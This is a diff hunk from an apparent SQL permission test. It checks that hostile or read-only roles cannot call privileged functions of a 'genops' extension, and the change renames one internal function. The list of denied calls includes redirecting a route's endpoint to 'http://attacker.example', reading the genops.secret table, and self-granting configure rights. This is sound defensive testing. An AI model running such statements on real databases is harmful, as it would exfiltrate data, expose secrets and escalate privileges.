@@ -71,7 +71,7 @@ FROM unnest(ARRAY['roles_hostile', 'roles_reader']) who, unnest(ARRAY[
 	$$SELECT genops_route_headers('r', '{}')$$, $$INSERT INTO genops.route (name, otlp_endpoint) VALUES ('r', 'http://attacker.example')$$,
 	$$SELECT genops_pause_delivery()$$, $$SELECT genops_resume_delivery()$$, $$SELECT genops_resend('2000-01-01')$$,
 	$$SELECT genops_validate()$$, $$SELECT genops_validation_report()$$, $$SELECT genops_quick_start()$$,
-	$$SELECT * FROM genops.secret$$, $$SELECT genops.wake_worker()$$, $$SELECT genops_grant('roles_hostile', 'configure')$$,
+	$$SELECT * FROM genops.secret$$, $$SELECT genops_internal.wake_worker()$$, $$SELECT genops_grant('roles_hostile', 'configure')$$,
 	$$CREATE TABLE genops.mine ()$$]) call;
 
 -- A trigger of somebody who has ALL on the tables runs as nobody.
